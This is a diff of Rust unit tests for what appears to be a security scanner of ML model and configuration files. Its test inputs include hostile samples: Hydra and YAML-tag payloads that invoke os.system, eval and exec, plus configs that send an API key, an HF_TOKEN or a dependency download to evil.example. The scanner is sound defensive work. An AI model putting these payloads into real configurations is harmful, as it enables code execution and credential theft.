@@ -51,6 +51,9 @@ fn hydra_targets_are_judged_at_any_depth() {
     assert_eq!(yaml("a.yaml", "a: {_target_: AutoTokenizer}\nb: {_target_: eval}\n"), ["dangerous builtins.eval"]);
     assert_eq!(json(r#"{"a": {"_target_": "builtins.exec"}}"#), ["dangerous builtins.exec"]);
     assert_eq!(yaml("a.yaml", "_target_: hydra.utils.get_method\npath: os.system\n"), ["dangerous os.system"]);
+    assert_eq!(yaml("a.yaml", "_target_: hydra.utils.get_method\n_args_: [os.system]\n"), ["dangerous os.system"]);
+    assert_eq!(yaml("a.yaml", "_args_: [os.system]\n_target_: hydra.utils.get_object\n"), ["dangerous os.system"]);
+    assert_eq!(yaml("a.yaml", "_target_: torch.nn.Linear\n_args_: [os.system]\n"), NOTHING);
 }
 
 #[test]
@@ -163,4 +166,80 @@ fn a_key_for_loaders_that_stands_twice_is_odd() {
 fn no_mutation_panics() {
     let seed = br#"{"lc":1,"type":"constructor","id":["a","b"],"target":"a.b","params":{"path":"x.y"},"py/object":"a.b","_target_":"os.system","x":"$import os","template":"{{x}}","template_format":"jinja2"}"#;
     mutate(seed, 3000, |bytes| drop(inspect(&Yaml, "conda.yaml", &bytes)));
+}
+
+#[test]
+fn modules_that_mlflow_imports_are_judged() {
+    assert_eq!(yaml("pickle_module_info.txt", "mlflow.pytorch.pickle_module"), NOTHING);
+    assert_eq!(yaml("pickle_module_info.txt", "evil_pickle\n"), ["unknown .evil_pickle"]);
+    assert_eq!(yaml("keras_module.txt", "tensorflow.keras"), NOTHING);
+}
+
+#[test]
+fn what_sentence_transformers_imports_is_judged() {
+    let named = |name: &str, text: &str| opinions(&inspect(&Json, name, text.as_bytes()));
+    let modules = r#"[{"path": "../../tmp", "type": "sentence_transformers.models.Dense"}, {"path": "1_Pooling"}]"#;
+    assert_eq!(named("modules.json", modules), ["ExternalData"]);
+    let evil = named("modules.json", r#"[{"path": "", "type": "os.system"}]"#);
+    assert!(evil.contains(&"dangerous os.system".to_owned()), "{evil:?}");
+    assert_eq!(json(r#"{"activation_function": "os.system"}"#), ["dangerous os.system"]);
+    for usual in ["torch.nn.modules.activation.Tanh", "torch.nn.modules.linear.Identity", "gelu_new"] {
+        assert_eq!(json(&format!(r#"{{"activation_function": "{usual}"}}"#)), NOTHING);
+    }
+}
+
+#[test]
+fn components_in_a_model_of_rasa_are_judged() {
+    let text = r#"{"rasa_open_source_version": "3.6", "train_schema": {"nodes": {"x": {"uses": "os.system"}}}}"#;
+    assert_eq!(json(text), ["dangerous os.system"]);
+    assert_eq!(json(&text.replace("os.system", "rasa.nlu.classifiers.diet_classifier.DIETClassifier")), NOTHING);
+}
+
+#[test]
+fn keys_that_are_json_are_decoded() {
+    assert_eq!(json(r#"{"json://{\"py/function\": \"os.system\"}": 1}"#), ["dangerous os.system"]);
+}
+
+#[test]
+fn functions_of_javascript_and_objects_of_php_are_told() {
+    assert_eq!(yaml("a.yaml", "x: !!js/function 'function(){}'\n").len(), 1);
+    assert_eq!(yaml("a.yaml", "x: !php/object 'O:1:\"A\":0:{}'\n").len(), 1);
+    assert_eq!(yaml("a.yaml", "x: !!js/regexp /a/\n"), NOTHING);
+}
+
+#[test]
+fn secrets_sent_elsewhere_are_told() {
+    let text = r#"{"lc": 1, "type": "constructor", "id": ["langchain", "chat_models", "openai", "ChatOpenAI"], "kwargs":
+        {"openai_api_key": {"lc": 1, "type": "secret", "id": ["KEY"]}, "base_url": "http://ADDRESS/v1"}}"#;
+    let told = |address: &str| json(&text.replace("ADDRESS", address)).iter().any(|line| line.starts_with("Address"));
+    assert!(told("evil.example") && told("api.openai.com@evil.example"));
+    assert!(!told("api.openai.com") && !told("localhost:8000"));
+}
+
+#[test]
+fn dependencies_of_a_project_are_requirements() {
+    use crate::settings::Settings;
+    let toml = |text: &str| opinions(&inspect(&Settings, "pyproject.toml", text.as_bytes()));
+    let evil = "[project]\ndependencies = [\n  \"torch>=2\",\n  \"x @ https://evil.example/x.whl\",\n]\n";
+    assert_eq!(toml(evil), ["Address x @ https://evil.example/x.whl"]);
+    assert_eq!(toml("[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\n"), NOTHING);
+    assert_eq!(toml("[[tool.uv.index]]\nname = \"a\"\nurl = \"https://evil.example/simple\"\n").len(), 1);
+    assert_eq!(toml("[project]\ndependencies = [\"numpy>=1.2,<3\", \"transformers[torch]\"]\n"), NOTHING);
+}
+
+#[test]
+fn credentials_that_become_part_of_an_address_are_told() {
+    let told = |text: &str| yaml("a.yaml", &format!("url: {text}\n")).len();
+    assert_eq!(told("https://evil.example/?k=${oc.env:HF_TOKEN}"), 1);
+    assert_eq!(told("postgresql://${oc.env:DB_USER}:${oc.env:DB_PASSWORD}@db/x"), 0);
+    assert_eq!(told("http://${oc.env:TRACKING_HOST}:5000/api"), 0);
+    assert_eq!(told("${oc.env:HF_TOKEN}"), 0);
+}
+
+#[test]
+fn tags_are_found_in_what_is_read_as_settings() {
+    use crate::settings::Settings;
+    let cfg = |text: &str| opinions(&inspect(&Settings, "a.cfg", text.as_bytes()));
+    assert_eq!(cfg("x: !!python/object/apply:os.system [echo]\n"), ["dangerous os.system"]);
+    assert_eq!(cfg("[a]\nb = 1\n# !!python/object/apply:os.system\n"), NOTHING);
 }
